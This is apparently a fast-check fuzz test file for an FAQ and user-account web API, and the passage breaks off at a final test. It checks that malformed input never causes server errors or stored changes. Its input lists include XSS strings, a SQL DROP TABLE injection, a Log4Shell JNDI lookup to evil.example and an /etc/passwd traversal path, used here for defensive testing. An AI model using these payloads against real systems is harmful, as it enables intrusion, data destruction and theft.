import { db, engine, resetDatabase } from "./database";
import "./smtp";

import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";

import fc from "fast-check";

import { faqs, searchQueries, synonymGroups } from "@/db/schema";
import { seedDemoContent } from "@/db/seed";
import { ENDPOINTS, type Endpoint } from "@/lib/api/endpoints";

import { answeredSearchesClosed } from "@/lib/server/content-gap-closer";

import { PASSWORD } from "../../harness/accounts";
import { insertUsers } from "./accounts";
import { ApiClient } from "../../harness/api-client";
import { startApp } from "../../harness/app";
import {
  assertDatabaseInvariants,
  assertProblem,
  cookieHeader,
  rawRequest,
  rowCounts,
  storedDataFingerprint,
} from "./attack";
import { signIn } from "../../harness/sign-in";

/**
 * Issue 7 item 3: every endpoint of lib/api/endpoints.ts gets at least 500 generated requests
 * (wrong types, huge strings, unicode with lone surrogates, right-to-left marks and NUL, deeply
 * nested JSON, arrays for objects, missing and extra fields, odd and repeated query parameters,
 * bodies that are not JSON, other content types), mostly from an identity that the endpoint lets
 * in, so that its validation is what answers. docs/api.md §1: no input gives a 5xx, every refusal
 * is ProblemDetails, and a refused request changes nothing stored. Requests that happen to be valid
 * may succeed; they are counted apart.
 *
 * The run is random; a failure prints fast-check's seed and path. FUZZ_SEED=<seed> replays it.
 */

/**
 * 500 by default. scripts/test.sh runs the full 500 in its PostgreSQL pass and sets FUZZ_RUNS lower
 * for its PGlite pass, where the same validation answers (docs/decisions/0034).
 */
const RUNS_PER_ENDPOINT = runsPerEndpoint(process.env.FUZZ_RUNS);
const seed = process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) : undefined;

function runsPerEndpoint(value: string | undefined): number {
  if (value === undefined || value === "") return 500;
  const runs = Number(value);
  if (!Number.isInteger(runs) || runs < 1)
    throw new Error(`FUZZ_RUNS: a whole number above 0, not ${value}`);
  return runs;
}

const app = await startApp();

type Who = "admin" | "unverified" | "leaving" | "anonymous";
/** Who sends a request, and whether it carries the anti-forgery token (docs/api.md §2). */
interface Sender {
  who: Who | "signed-out";
  token: boolean;
}

/** Who calls each endpoint so that the request gets past its guard (docs/api.md §4). */
const CALLER: Record<string, Who> = {
  "/api/User/Login": "anonymous",
  "/api/User/GetXsrfToken": "anonymous",
  "/api/User/ForgotPassword": "anonymous",
  "/api/User/ResetPassword": "anonymous",
  "/api/User/UndoEmailChange": "anonymous",
  "/api/User/LoginSecondStep": "anonymous",
  "/api/Faq/GetFaqs": "anonymous",
  "/api/Faq/GetQueriedFaqs": "anonymous",
  "/api/User/VerifyAccount": "unverified",
  "/api/User/ResendVerificationEmail": "unverified",
  // Logout ends every session of its account (docs/decisions/0006): never the Admin's.
  "/api/User/Logout": "leaving",
};

// --- values ---------------------------------------------------------------------------------

/** Characters that have broken parsers, databases and renderers. */
const NASTY = [
  "\u0000",
  "\uD800",
  "\uDBFF",
  "\uDC00",
  "\uDFFF",
  "\u202E",
  "\u200F",
  "\u202B",
  "\u2066",
  "\uFEFF",
  "\u200B",
  "\u0301",
  "\uFFFD",
  "\uFFFF",
  "\u0085",
  "\u2028",
  "\r\n",
  "\t",
  "\u001B",
  "\u007F",
  "👩‍👩‍👧‍👦",
  "𝕏",
  "ﷺ",
  "ا",
  "漢",
  "%",
  "%00",
  "\\",
  '"',
  "'",
  "<",
  ">",
  "&",
  "{",
  "[",
  "$",
  "_",
];

const NASTY_TEXT = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  '<a href="javascript:alert(1)">link</a>',
  "<iframe src=//evil.example></iframe>",
  "<style>*{display:none}</style>",
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  "%' OR '1'='1",
  "\\x00",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "__proto__",
  "constructor",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "0x10",
  "١٢٣",
  "  ",
  "",
  "null",
  "true",
  "[]",
  "{}",
  "مرحبا بالعالم",
  "שלום \u202Eעולם",
  "a\u0000b",
  "\uD83D",
  "x\uDE00y",
];

const nastyUnit = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.integer({ min: 0xd800, max: 0xdfff }).map(String.fromCharCode) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 1 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }) },
  { weight: 4, arbitrary: fc.string({ unit: "grapheme-ascii", minLength: 1, maxLength: 1 }) },
);

/** Text of up to ~100 kB, mostly short, with every kind of character. */
const anyText = fc.oneof(
  { weight: 5, arbitrary: fc.string({ unit: nastyUnit, maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_TEXT) },
  { weight: 2, arbitrary: fc.string({ maxLength: 300 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.string({ unit: nastyUnit, minLength: 1, maxLength: 4 }), fc.nat({ max: 25_000 }))
      .map(([piece, times]) => piece.repeat(times + 250)),
  },
);

/** JSON text put into a body as is: deeply nested or otherwise odd values. */
class RawJson {
  constructor(readonly text: string) {}
}

const deepJson = fc
  .tuple(fc.constantFrom("array", "object", "mixed"), fc.integer({ min: 50, max: 20_000 }))
  .map(([kind, depth]) => {
    if (kind === "array") return new RawJson(`${"[".repeat(depth)}${"]".repeat(depth)}`);
    if (kind === "object") return new RawJson(`${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`);
    return new RawJson(`${'[{"a":'.repeat(depth)}null${"}]".repeat(depth)}`);
  });

const anyValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    { weight: 5, arbitrary: anyText },
    { weight: 2, arbitrary: fc.integer() },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        0,
        -1,
        1.5,
        -0,
        2_147_483_647,
        2_147_483_648,
        Number.MAX_SAFE_INTEGER,
        1e308,
        1e-308,
      ),
    },
    { weight: 1, arbitrary: fc.double() },
    { weight: 2, arbitrary: fc.boolean() },
    { weight: 2, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: fc.array(tie("value"), { maxLength: 4 }) },
    { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 8 }), tie("value")) },
    { weight: 1, arbitrary: deepJson },
    // A number too big for a double, written as JSON allows it.
    { weight: 1, arbitrary: fc.bigInt().map((n) => new RawJson(`${n.toString()}0000000000`)) },
  ),
})).value;

/** JSON text of a value, with RawJson pieces as they are. */
function toJson(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJson).join(",")}]`;
  if (value && typeof value === "object") {
    return `{${Object.entries(value)
      .map(([key, item]) => `${JSON.stringify(key)}:${toJson(item)}`)
      .join(",")}}`;
  }
  return JSON.stringify(value);
}

// --- valid-looking values of each field -----------------------------------------------------

interface Targets {
  faqIds: number[];
  /** Recorded searches (the Content Gaps entries LinkContentGap takes). */
  searchIds: number[];
  userIds: number[];
  synonymGroupIds: number[];
  adminEmail: string;
}

const digits = (max: number) => fc.nat({ max }).map(String);
const html = fc.oneof(
  anyText.map((text) => `<p>${text}</p>`),
  fc.constantFrom(
    "<p>How do I start reading with my child?</p>",
    "<p><strong>Bold</strong>, <em>italic</em> and <u>underlined</u></p>",
    '<p><a href="https://example.org">a link</a></p>',
    "<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>",
    "<script>alert(1)</script><p>kept</p>",
    '<p onclick="alert(1)">x</p>',
    "<p></p>",
    "<p> </p>",
  ),
);

/** A search word (issue 13): mostly a plain one, some taken, some against the rules. */
const searchWord = fc.oneof(
  { weight: 4, arbitrary: fc.stringMatching(/^[a-z0-9]{1,12}$/) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      "kid",
      "child",
      "PRICE",
      " Fee ",
      "Café",
      "naïve",
      "ﬁsh",
      "İstanbul",
      "ß",
      "漢字",
      "١٢٣",
      "grown up",
      "child!",
      "<script>",
      "a-b",
      "",
      " ",
      "a".repeat(40),
      "b".repeat(41),
      "é".repeat(40),
      "\u0065\u0301".repeat(40),
    ),
  },
  { weight: 2, arbitrary: fc.string({ unit: nastyUnit, maxLength: 12 }) },
  { weight: 1, arbitrary: anyText.map((text) => text.slice(0, 2000)) },
  // Not a string. (Any value at all comes as the whole field; queries take these as text.)
  { weight: 1, arbitrary: fc.constantFrom<unknown>(1, 1.5, null, true, ["kid"]) },
);

function fieldValues(targets: Targets): Record<string, fc.Arbitrary<unknown>> {
  const faqId = fc.oneof(fc.constantFrom(...targets.faqIds), fc.integer({ min: 1 }));
  return {
    limit: fc.oneof(digits(100), fc.constantFrom("0", "101", "-1", "15.0", " 5", "1e2")),
    skip: fc.oneof(digits(200), fc.constantFrom("-1", "99999999999", "0x10")),
    orderBy: fc.constantFrom("0", "1", "2", "3", "-1", "01", "1.0"),
    isPhantomDeleted: fc.constantFrom("true", "false", "True", "FALSE", "1", "yes"),
    searchQuery: fc.oneof(
      fc.constantFrom("reading", "phonics", "coach", "readin", "redaing", "zzz"),
      fc.string({ maxLength: 30 }),
    ),
    faqId,
    userId: fc.oneof(fc.constantFrom(...targets.userIds), fc.integer({ min: 1 })),
    question: html,
    answer: html,
    tags: fc.oneof(fc.string({ maxLength: 40 }), fc.constantFrom("a, b, A, c", " , ,", "")),
    // Issue 26 "Also asked as": lists of lines, some too many or too long, some not text.
    phrasings: fc.oneof(
      fc.array(fc.string({ unit: nastyUnit, maxLength: 30 }), { maxLength: 8 }),
      fc.array(fc.stringMatching(/^[a-z ]{1,20}$/), { minLength: 19, maxLength: 24 }),
      fc.constantFrom<unknown>(
        [],
        ["", "  ", "How Do I", "how do i", "<b>how</b> do i"],
        ["x".repeat(200)],
        ["x".repeat(201)],
        "one phrasing",
        [1, 2],
        null,
      ),
    ),
    // Issue 28: a language, in any letter case, or not one.
    language: fc.constantFrom("en", "es", "ES", "En", " es ", "", "fr", "español", "e"),
    // Issue 28: GetAdminFaqs's filter by translation, or not one.
    translationFilter: fc.constantFrom(
      "missing-es",
      "outdated-es",
      "MISSING-ES",
      " outdated-es ",
      "",
      "missing",
      "es",
      "none",
    ),
    // Issue 28: translations of PostFaq and PatchFaq: a save, a mark current, or anything else.
    translations: fc.oneof(
      fc.record(
        {
          es: fc.record(
            {
              question: html,
              answer: html,
              tags: fc.string({ maxLength: 20 }),
              phrasings: fc.constantFrom<unknown>([], ["uno", "UNO", ""], ["x".repeat(201)]),
              status: fc.constantFrom<unknown>("draft", "published", "Published", "", null),
              editedAt: fc.constantFrom<unknown>(null, "2024-11-20T10:00:00Z", "yesterday"),
              contentVersion: fc.constantFrom<unknown>(1, 2, 0, -1, 1.5, "1", 2_147_483_648),
            },
            { requiredKeys: [], noNullPrototype: true },
          ),
        },
        { requiredKeys: [], noNullPrototype: true },
      ),
      fc.record(
        {
          es: fc.record(
            {
              markCurrent: fc.constantFrom<unknown>(true, false, "true", null),
              editedAt: fc.constantFrom<unknown>(null, "2024-11-20T10:00:00Z"),
            },
            { noNullPrototype: true },
          ),
        },
        { noNullPrototype: true },
      ),
      fc.constantFrom<unknown>({}, { fr: {} }, { es: null }, [], "es", null, { es: [] }),
    ),
    searchId: fc.oneof(
      fc.constantFrom(...(targets.searchIds.length > 0 ? targets.searchIds : [1])),
      fc.integer({ min: 1 }),
    ),
    editedAt: fc.oneof(
      fc.constant(null),
      fc.date({ noInvalidDate: true }).map((date) => date.toISOString()),
      fc.constantFrom("2024-11-20T10:00:00+01:00", "2024-13-40T99:99:99Z", "yesterday"),
    ),
    email: fc.oneof(
      fc.emailAddress(),
      fc.constantFrom("  Someone@Example.ORG ", "a@b", "no-at-sign", `${"x".repeat(250)}@e.org`),
    ),
    knownEmail: fc.oneof(fc.emailAddress(), fc.constant(targets.adminEmail)),
    password: fc.oneof(fc.string({ minLength: 8, maxLength: 40 }), fc.constant(PASSWORD)),
    token: fc.oneof(
      fc.nat({ max: 999_999 }).map((n) => String(n).padStart(6, "0")),
      fc.constantFrom(" 123 456 ", "12345", "1234567", "abcdef"),
    ),
    role: fc.constantFrom("Guest", "Student", "Coach", "Admin", "admin", "Root", ""),
    name: fc.oneof(fc.string({ minLength: 1, maxLength: 30 }), fc.constant("Ann")),
    synonymGroupId: fc.oneof(
      fc.constantFrom(...targets.synonymGroupIds),
      fc.integer({ min: 1 }),
      fc.constantFrom(2_147_483_647, 2_147_483_648),
    ),
    helpful: fc.constantFrom<unknown>(true, false, "true", "no", 0, null),
    voteReason: fc.constantFrom<unknown>(
      "tooHard",
      "notAnswered",
      "otherLanguage",
      "somethingElse",
      "TooHard",
      "boring",
      "",
      null,
    ),
    voteComment: fc.oneof(
      fc.string({ unit: nastyUnit, maxLength: 40 }),
      anyText.map((text) => text.slice(0, 700)),
      fc.constantFrom<unknown>(null, "", "   ", "<script>alert(1)</script>", "x".repeat(501)),
    ),
    gapStatus: fc.constantFrom("open", "closed", "dismissed", "OPEN", "", "gone"),
    auditAction: fc.constantFrom(
      "auth.signed_in",
      "faq.edited",
      "FAQ.EDITED",
      "faq",
      "",
      "x".repeat(300),
    ),
    day: fc.oneof(
      fc.date({ noInvalidDate: true }).map((date) => date.toISOString().slice(0, 10)),
      fc.constantFrom("2024-02-30", "2024-13-01", "yesterday", "2024-1-5", "", "99999-01-01"),
    ),
    gapKind: fc.constantFrom<unknown>("search", "faq", "translation", "Search", "page", 1, null),
    words: fc.oneof(
      {
        weight: 4,
        arbitrary: fc.array(fc.stringMatching(/^[a-z0-9]{1,12}$/), { minLength: 2, maxLength: 20 }),
      },
      { weight: 8, arbitrary: fc.array(searchWord, { maxLength: 24 }) },
      {
        weight: 1,
        arbitrary: fc.array(fc.stringMatching(/^[a-z]{1,8}$/), { minLength: 190, maxLength: 220 }),
      },
      { weight: 1, arbitrary: fc.constantFrom("kid, child", "kid child", "", []) },
    ),
  };
}

/** The fields of each endpoint (docs/product.md §7) and the kind of value each takes. */
const FIELDS: Record<string, Record<string, string>> = {
  "/api/Faq/GetFaqs": { limit: "limit", skip: "skip", orderBy: "orderBy", language: "language" },
  "/api/Faq/GetAdminFaqs": {
    limit: "limit",
    skip: "skip",
    orderBy: "orderBy",
    isPhantomDeleted: "isPhantomDeleted",
    translation: "translationFilter",
  },
  "/api/Faq/GetFaqSearchQueries": { limit: "limit", skip: "skip", orderBy: "orderBy" },
  "/api/Faq/GetFaqSearchQuerySummaries": { limit: "limit", skip: "skip", orderBy: "orderBy" },
  "/api/Faq/GetFaqSearchQueryDays": { search: "searchQuery" },
  "/api/Faq/GetQueriedFaqs": { searchQuery: "searchQuery" },
  "/api/Faq/GetAdminQueriedFaqs": { searchQuery: "searchQuery" },
  "/api/Faq/GetFaq": { id: "faqId", language: "language" },
  "/api/Faq/PostFaq": {
    question: "question",
    answer: "answer",
    tags: "tags",
    phrasings: "phrasings",
    translations: "translations",
  },
  "/api/Faq/PatchFaq": {
    id: "faqId",
    question: "question",
    answer: "answer",
    tags: "tags",
    phrasings: "phrasings",
    editedAt: "editedAt",
    translations: "translations",
  },
  "/api/Faq/DeleteFaq": { id: "faqId" },
  "/api/Faq/RestoreFaq": { id: "faqId" },
  "/api/Faq/GetSynonymGroups": {},
  "/api/Faq/PostSynonymGroup": { words: "words" },
  "/api/Faq/PatchSynonymGroup": { id: "synonymGroupId", words: "words" },
  "/api/Faq/DeleteSynonymGroup": { id: "synonymGroupId" },
  "/api/Faq/RateFaq": {
    id: "faqId",
    helpful: "helpful",
    reason: "voteReason",
    comment: "voteComment",
  },
  "/api/Faq/GetContentGaps": {
    limit: "limit",
    skip: "skip",
    orderBy: "orderBy",
    status: "gapStatus",
  },
  "/api/Faq/DismissContentGap": { kind: "gapKind", id: "faqId", language: "language" },
  "/api/Faq/LinkContentGap": { id: "searchId", faqId: "faqId" },
  "/api/Faq/RequestFaqTranslation": { id: "faqId", language: "language" },
  "/api/User/GetUser": {},
  "/api/User/GetUserById": { id: "userId" },
  "/api/User/GetUsers": { limit: "limit", skip: "skip", orderBy: "orderBy" },
  "/api/User/QueryUsers": { searchQuery: "searchQuery" },
  "/api/User/GetUserRole": {},
  "/api/User/Login": { email: "knownEmail", password: "password" },
  "/api/User/Logout": {},
  "/api/User/Register": {
    firstName: "name",
    lastName: "name",
    email: "knownEmail",
    password: "password",
    confirmPassword: "password",
  },
  "/api/User/VerifyAccount": { token: "token" },
  "/api/User/ResendVerificationEmail": {},
  "/api/User/ChangeName": { firstName: "name", lastName: "name" },
  "/api/User/ChangeEmail": { email: "email", password: "password" },
  "/api/User/ChangePassword": {
    oldPassword: "password",
    newPassword: "password",
    confirmNewPassword: "password",
  },
  "/api/User/VerifyEmail": { token: "token" },
  "/api/User/VerifyPassword": { token: "token" },
  "/api/User/PatchUser": { id: "userId", role: "role" },
  "/api/User/DeleteUser": { id: "userId" },
  "/api/User/GetXsrfToken": {},
  // Addresses with no account only: a known one would get a code after the answer (after()).
  "/api/User/ForgotPassword": { email: "email" },
  "/api/User/ResetPassword": {
    email: "knownEmail",
    password: "password",
    confirmPassword: "password",
    token: "token",
  },
  "/api/User/UndoEmailChange": { token: "token" },
  "/api/User/LoginSecondStep": { twoFactorToken: "token", code: "token" },
  "/api/User/StartTwoFactor": {},
  "/api/User/TurnOnTwoFactor": { code: "token", password: "password" },
  "/api/User/TurnOffTwoFactor": { password: "password" },
  "/api/User/ResetTwoFactor": { id: "userId" },
  "/api/User/GetActivity": {
    limit: "limit",
    skip: "skip",
    person: "userId",
    action: "auditAction",
    from: "day",
    to: "day",
  },
};

// --- requests -------------------------------------------------------------------------------

interface FuzzRequest {
  sender: Sender;
  method: string;
  path: string;
  contentType: string | undefined;
  body: string | Buffer | undefined;
  /** What the generator meant, for the report of a failure. */
  shape: string;
}

const MISSING = Symbol("missing");

/** A field: its own kind of value, any other value, or left out. */
function fieldArbitrary(kind: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 5, arbitrary: kind },
    { weight: 3, arbitrary: anyValue },
    { weight: 1, arbitrary: fc.constant(MISSING) },
  );
}

/** A parameter name as written: its own (any letter case), another, or a trap. */
function parameterName(names: string[]): fc.Arbitrary<string> {
  const own = names.length > 0 ? [fc.mixedCase(fc.constantFrom(...names))] : [];
  return fc.oneof(
    ...own,
    fc.string({ maxLength: 12 }),
    fc.constantFrom("__proto__", "constructor", "", "_rsc", "a[b]", "limit[]", "x.y"),
  );
}

/** Pieces of a query string as a careless or hostile client writes them, unencoded. */
const rawQueryPiece = fc.constantFrom(
  "&",
  "&&",
  "=",
  "==",
  "%",
  "%zz",
  "%E0%A4%A",
  "%C0%AF",
  "%FF%FE",
  "%ED%A0%80",
  "%00",
  "+",
  "a=1=2",
  ";",
  "?",
  "limit",
  "limit=",
  "=1",
);

/**
 * Percent-encoding of any text. encodeURIComponent refuses lone surrogates; their UTF-8 bytes
 * (U+FFFD, as a browser would send them) are encoded instead.
 */
function percentEncode(text: string): string {
  return Array.from(Buffer.from(text, "utf8"))
    .map((byte) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, "0")}`,
    )
    .join("");
}

function queryString(names: string[], values: Record<string, fc.Arbitrary<unknown>>) {
  const value = fc.oneof(
    ...Object.values(values).map((arbitrary) => arbitrary.map((item) => String(item))),
    anyText.map((text) => text.slice(0, 2000)),
  );
  const pair = fc.oneof(
    { weight: 8, arbitrary: fc.tuple(parameterName(names), value) },
    { weight: 1, arbitrary: rawQueryPiece.map((piece) => [piece, undefined] as const) },
  );
  return fc.array(pair, { maxLength: 8 }).map((pairs) => {
    const text = pairs
      .map(([name, item]) =>
        item === undefined
          ? name
          : `${percentEncode(name)}=${percentEncode(item).replace(/%20/g, "+")}`,
      )
      .join("&");
    // Node's HTTP server takes at most 16 kB of request line and headers; that limit is the
    // server's, not the app's, so queries stay below it.
    return text.slice(0, 12_000);
  });
}

function bodyArbitrary(
  fields: Record<string, string>,
  values: Record<string, fc.Arbitrary<unknown>>,
): fc.Arbitrary<{ body: string | Buffer | undefined; shape: string }> {
  const record = fc.record(
    Object.fromEntries(
      Object.entries(fields).map(([name, kind]) => [
        name,
        fieldArbitrary(values[kind] ?? anyValue),
      ]),
    ),
  );
  const extra = fc.dictionary(
    fc.oneof(
      fc.string({ maxLength: 10 }),
      fc.constantFrom("__proto__", "constructor", "prototype", "Id", "ROLE", "isAdmin", "role"),
    ),
    anyValue,
    { maxKeys: 3 },
  );
  const object = fc
    .tuple(record, fc.option(extra, { freq: 3 }), fc.boolean())
    .map(([own, more, duplicate]) => {
      const entries = Object.entries(own).filter(([, item]) => item !== MISSING);
      const text = entries.map(([name, item]) => `${JSON.stringify(name)}:${toJson(item)}`);
      if (more) {
        for (const [name, item] of Object.entries(more)) {
          text.push(`${JSON.stringify(name)}:${toJson(item)}`);
        }
      }
      // A repeated name: JSON.parse keeps the last, which is the odd one.
      if (duplicate && entries[0]) text.push(`${JSON.stringify(entries[0][0])}:${toJson([1])}`);
      return { body: `{${text.join(",")}}`, shape: "object" };
    });
  const invalidJson = fc.oneof(
    fc.constantFrom(
      "{",
      "}",
      "{'id': 1}",
      '{"id":}',
      '{"id":1,}',
      "[1,2",
      "undefined",
      "NaN",
      '{"a":1}{"b":2}',
      "\uFEFF{}",
      '{"\\ud800":"\\udc00"}',
      '{"id":"\\u0000"}',
      "\u0000",
      "---",
    ),
    object.map(({ body }) => (typeof body === "string" ? body.slice(0, -1) : "")),
  );
  return fc.oneof(
    { weight: 14, arbitrary: object },
    {
      weight: 1,
      arbitrary: fc.array(object, { maxLength: 3 }).map((items) => ({
        body: `[${items.map((item) => item.body).join(",")}]`,
        shape: "array of objects",
      })),
    },
    { weight: 1, arbitrary: anyValue.map((item) => ({ body: toJson(item), shape: "value" })) },
    { weight: 1, arbitrary: invalidJson.map((body) => ({ body, shape: "invalid JSON" })) },
    { weight: 1, arbitrary: deepJson.map((item) => ({ body: item.text, shape: "deep JSON" })) },
    { weight: 1, arbitrary: fc.constantFrom({ body: undefined, shape: "no body" }) },
    { weight: 1, arbitrary: fc.constantFrom({ body: "", shape: "empty body" }) },
    {
      weight: 1,
      arbitrary: fc.uint8Array({ maxLength: 64 }).map((bytes) => ({
        body: Buffer.concat([Buffer.from('{"x":"'), Buffer.from(bytes), Buffer.from('"}')]),
        shape: "bytes that are not UTF-8",
      })),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom({
        body: `{"question":"${"a".repeat(300 * 1024)}"}`,
        shape: "body over the 256 kB limit",
      }),
    },
  );
}

const contentType = fc.oneof(
  { weight: 12, arbitrary: fc.constant("application/json") },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      undefined,
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=xyz",
      "application/json; charset=utf-16",
      "application/xml",
      "application/json;;;",
      "*/*",
    ),
  },
);

function requestArbitrary(endpoint: Endpoint, targets: Targets): fc.Arbitrary<FuzzRequest> {
  const who = CALLER[endpoint.path] ?? "admin";
  const fields = FIELDS[endpoint.path] ?? {};
  const values = fieldValues(targets);
  const names = Object.keys(fields);
  const writes = endpoint.method !== "GET";
  // Mostly the caller the endpoint lets in; now and then one without a session or a token.
  const sender: fc.Arbitrary<Sender> = fc.oneof(
    { weight: 18, arbitrary: fc.constant<Sender>({ who, token: true }) },
    { weight: 1, arbitrary: fc.constant<Sender>({ who: "signed-out", token: true }) },
    { weight: 1, arbitrary: fc.constant<Sender>({ who, token: false }) },
  );
  const method = fc.oneof(
    { weight: 30, arbitrary: fc.constant(endpoint.method) },
    { weight: 1, arbitrary: fc.constantFrom("GET", "POST", "PATCH", "PUT", "DELETE") },
  );
  const spelling = fc.oneof(
    { weight: 8, arbitrary: fc.constant(endpoint.path) },
    { weight: 1, arbitrary: fc.mixedCase(fc.constant(endpoint.path)) },
  );
  const queryFields = writes ? {} : fields;
  const query = queryString(Object.keys(queryFields), values);
  const body = writes
    ? bodyArbitrary(fields, values)
    : fc.constantFrom({ body: undefined, shape: "no body" });
  return fc
    .record({
      sender,
      method,
      path: spelling,
      query: writes ? fc.option(query, { freq: 6 }) : query,
      body,
      contentType,
    })
    .map(({ sender: from, method: verb, path, query: text, body: sent, contentType: type }) => ({
      sender: from,
      method: verb,
      path: text ? `${path}?${text}` : path,
      contentType: sent.body === undefined ? undefined : type,
      body: verb === "GET" ? undefined : sent.body,
      shape: `${sent.shape}${names.length > 0 ? ` of ${names.join(", ")}` : ""}`,
    }));
}

// --- the run --------------------------------------------------------------------------------

interface Tally {
  sent: number;
  succeeded: number;
  refused: number;
  statuses: Map<number, number>;
}

/** The two parts the endpoints are fuzzed in, by path; every endpoint is in one of them. */
export const FUZZ_PARTS = { FAQ: "/api/Faq/", account: "/api/User/" } as const;

export function endpointsOf(part: keyof typeof FUZZ_PARTS): Endpoint[] {
  return ENDPOINTS.filter((endpoint) => endpoint.path.startsWith(FUZZ_PARTS[part]));
}

/**
 * Fuzzes `endpoints`. The endpoints are split between two test files (tests/api-fuzz-faq.test.ts
 * and tests/api-fuzz-user.test.ts), which the test run can run side by side: at 500 requests per
 * endpoint one file was most of the PostgreSQL pass (docs/decisions/0035).
 */
export function fuzzEndpoints(part: string, endpoints: readonly Endpoint[]): void {
  describe(`fuzzing the ${part} endpoints on ${engine}`, () => {
    const clients = new Map<Who, ApiClient>();
    let signedOut: ApiClient;
    let targets: Targets;
    let adminId = 0;
    const tallies = new Map<string, Tally>();
    let fingerprint = "";
    const startedAt = Date.now();

    before(async () => {
      await resetDatabase();
      await seedDemoContent({ supportEmail: "help@example.org" });
      const admin = await signIn(app.url, { role: "Admin" });
      adminId = admin.userId;
      clients.set("admin", admin.client);
      clients.set("unverified", (await signIn(app.url, { role: "Guest", verified: false })).client);
      clients.set("leaving", (await signIn(app.url, { role: "Student" })).client);
      const anonymous = new ApiClient(app.url);
      await anonymous.get("/api/User/GetXsrfToken");
      clients.set("anonymous", anonymous);
      signedOut = anonymous;
      // Users that PatchUser and DeleteUser may hit; the Admin's own id is among the targets, which
      // the API must refuse (docs/api.md §4: no Admin demotes or deletes themself).
      const victims = await insertUsers(
        Array.from({ length: 12 }, (_, index) => ({
          firstName: "Victim",
          lastName: String(index),
          email: `victim-${String(index)}@example.org`,
          role: index % 4 === 0 ? ("Admin" as const) : ("Guest" as const),
        })),
      );
      const faqRows = await db.select({ id: faqs.id }).from(faqs);
      const groupRows = await db.select({ id: synonymGroups.id }).from(synonymGroups);
      const searchRows = await db.select({ id: searchQueries.id }).from(searchQueries);
      targets = {
        faqIds: faqRows.map((row) => row.id),
        searchIds: searchRows.map((row) => row.id),
        userIds: [...victims.map((victim) => victim.id), adminId],
        synonymGroupIds: groupRows.map((row) => row.id),
        adminEmail: admin.email,
      };
      fingerprint = await storedDataFingerprint();
    });

    after(() => {
      const rows = [...tallies].map(([path, tally]) => ({
        endpoint: path,
        requests: tally.sent,
        "2xx": tally.succeeded,
        "4xx": tally.refused,
        statuses: [...tally.statuses]
          .sort(([a], [b]) => a - b)
          .map(([status, count]) => `${String(status)}×${String(count)}`)
          .join(" "),
      }));
      console.log(
        `fuzz on ${engine}: ${String(rows.reduce((sum, row) => sum + row.requests, 0))} requests in ${String(Math.round((Date.now() - startedAt) / 1000))} s`,
      );
      console.table(rows);
    });

    async function send(request: FuzzRequest) {
      const { who, token } = request.sender;
      const client = who === "signed-out" ? signedOut : clients.get(who);
      assert.ok(client, "client is there");
      const headers: Record<string, string> = {
        Cookie: cookieHeader(client),
        "X-Forwarded-For": "192.0.2.10",
      };
      if (request.contentType) headers["Content-Type"] = request.contentType;
      if (client.xsrfToken && token) {
        headers["X-XSRF-TOKEN"] = client.xsrfToken;
      }
      return rawRequest(app.url, {
        method: request.method,
        path: request.path,
        headers,
        body: request.body,
      });
    }

    for (const endpoint of endpoints) {
      test(`${endpoint.method} ${endpoint.path}: ${String(RUNS_PER_ENDPOINT)} generated requests`, async () => {
        const tally: Tally = { sent: 0, succeeded: 0, refused: 0, statuses: new Map() };
        const writes = endpoint.method !== "GET";
        tallies.set(endpoint.path, tally);
        await fc.assert(
          fc.asyncProperty(requestArbitrary(endpoint, targets), async (request) => {
            const response = await send(request);
            // What a write does just after its answer (Content Gaps) belongs to that write.
            await answeredSearchesClosed();
            tally.sent += 1;
            tally.statuses.set(response.status, (tally.statuses.get(response.status) ?? 0) + 1);
            const label = `${request.sender.who}${request.sender.token ? "" : " without token"} ${request.method} ${request.path.slice(0, 200)} (${request.shape}) → ${String(response.status)} ${response.body.slice(0, 300)}`;
            assert.ok(response.status < 500, `a server error: ${label}`);
            assert.ok(
              (response.status >= 200 && response.status < 300) ||
                (response.status >= 400 && response.status < 500),
              `neither a success nor a refusal: ${label}`,
            );
            if (response.status >= 400) {
              tally.refused += 1;
              assertProblem(response, label);
            } else {
              tally.succeeded += 1;
            }
            // A refused write must leave the stored data as it was, checked after each one. A read
            // may change nothing at all, succeeded or not: checked every 50 and at the end.
            if (writes || tally.sent % 50 === 0) {
              const now = await storedDataFingerprint();
              if (!writes || response.status >= 400) {
                assert.equal(
                  now,
                  fingerprint,
                  `stored data changed by ${writes ? "a refused" : "a"} request (${label})`,
                );
              }
              fingerprint = now;
            }
          }),
          {
            numRuns: RUNS_PER_ENDPOINT,
            includeErrorInReport: true,
            ...(seed === undefined ? {} : { seed }),
          },
        );
        assert.ok(tally.sent >= RUNS_PER_ENDPOINT, "tally.sent >= RUNS_PER_ENDPOINT");
        assert.equal(await storedDataFingerprint(), fingerprint, "stored data changed");
      });
    }

    test("afterwards the data is whole and the Admin is still an Admin", async () => {
